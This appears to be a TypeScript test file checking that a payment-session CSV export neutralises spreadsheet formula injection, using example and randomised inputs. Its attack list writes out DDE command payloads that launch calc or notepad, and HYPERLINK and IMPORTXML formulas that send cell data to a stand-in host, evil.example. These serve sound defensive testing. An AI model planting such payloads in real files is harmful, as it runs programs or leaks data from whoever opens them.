import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { PaySession } from '#lambdas/contract/desk-api.ts';
import { toCsv } from '#lambdas/records/sessions-csv.ts';

/** The cell of the description, still quoted; the cells around it are those of a row without one. */
function cellOf(description: string): string {
  const cells = rowOf({}).split(',');
  const at = toCsv([]).split(',').indexOf('"description"');
  const [before, after] = [cells.slice(0, at), cells.slice(at + 1)].map((part) => part.join(',').length + 1);
  return rowOf({ description }).slice(before, -(after ?? 0));
}

function rowOf(session: Partial<PaySession>): string {
  const whole = toCsv([{ captured: {}, ...ENDED, ...session } as unknown as PaySession]);
  return whole.slice(toCsv([]).length, -2);
}

const ENDED = { state: 'succeeded', outcome: 'charged' } as const;

describe('the CSV export', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\0=1', '＝1', '＋1', '－1', '＠1'])(
    'turns the formula %j into text',
    (formula) => {
      expect(cellOf(formula).startsWith(`"'`)).toBe(true);
    },
  );

  it.each([
    ['a semicolon', 'x;=1+1;', `"x;'=1+1;"`],
    ['a semicolon and a quote', 'x; "=1', `"x; ""'=1"`],
    ['a tab', 'x\t=1', `"x\t'=1"`],
    ['a line break', 'x\r\n=1', `"x\r'\n'=1"`],
    ['a bar', 'x|@a', `"x|'@a"`],
  ])('turns a formula behind %s into text, as where that separates cells', (_, given, cell) => {
    expect(cellOf(given)).toBe(cell);
  });

  it.each([
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1-1+cmd|'/C notepad'!A1",
    "-2+3+cmd|'/C calc'!D2",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    '=IMPORTXML(CONCAT("https://evil.example?v=",A2:E2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    '\t=1+1',
    '\n@SUM(A1)',
    '"=1+1',
    '"; =1+1',
    '\uFF1D1+1',
    "'=1+1",
  ])('lets no program of the known ones start: %j', (attack) => {
    expect(startsOf(cellOf(attack)).filter((start) => FORMULA.test(start))).toEqual([]);
  });

  it('lets no text start a formula in any cell of any spreadsheet', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n;,|"\' a1\0\uFF1D\uFF0B'), maxLength: 14 });
    fc.assert(
      fc.property(text, (description) => {
        const cell = cellOf(description);
        expect(cell.slice(1, -1).replaceAll('""', '')).not.toContain('"');
        expect(startsOf(cell).filter((start) => FORMULA.test(start))).toEqual([]);
      }),
    );
  });

  it('disarms a formula in what the processor said and what a supervisor found out, too', () => {
    const row = rowOf({
      processor: { payment_status: '=1+1', gateway_message: ';@SUM(A1)' },
      resolution: { finding: 'charged', by: 'sam', at: '2026-01-15T10:00:00.000Z', note: '=1+1' },
    });
    expect(row).toContain(`"payment_status: =1+1, gateway_message: ;'@SUM(A1)"`);
    expect(row).toContain(`"sam","2026-01-15T10:00:00.000Z","'=1+1"`);
  });

  it('gives the processor’s reference of a finding, and the result that contradicts it', () => {
    const at = '2026-01-15T10:00:00.000Z';
    const resolution = {
      finding: 'charged',
      by: 'sam',
      at,
      note: 'Seen',
      processorReference: 'ch_9',
    } as const;
    expect(rowOf({ resolution, contradiction: { reported: 'notCharged', at } })).toMatch(
      /"ch_9","notCharged","","","charged",""$/,
    );
  });

  it('adds columns at the end only', () => {
    expect(toCsv([]).replaceAll('"', '').trim().split(',').slice(-14)).toEqual([
      ...['reference', 'description', 'declined', 'profile id', 'processor'],
      ...['resolved by', 'resolved at', 'resolution note', 'processor reference', 'contradicted by'],
      ...['customer', 'assist pay id', 'ending', 'ended'],
    ]);
  });

  it('leaves other text as it is, with quotes doubled', () => {
    expect(cellOf('order 12-34; "blue" = yes')).toBe('"order 12-34; ""blue"" = yes"');
  });
});

/** What spreadsheets read as the beginning of a formula. */
const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The content of a cell as spreadsheets of every country would split it. */
function startsOf(quoted: string): readonly string[] {
  const content = quoted.slice(1, -1).replaceAll('""', '"');
  return content.split(/[;|\t\r\n]/).map((part, at) => (at === 0 ? part : part));
}
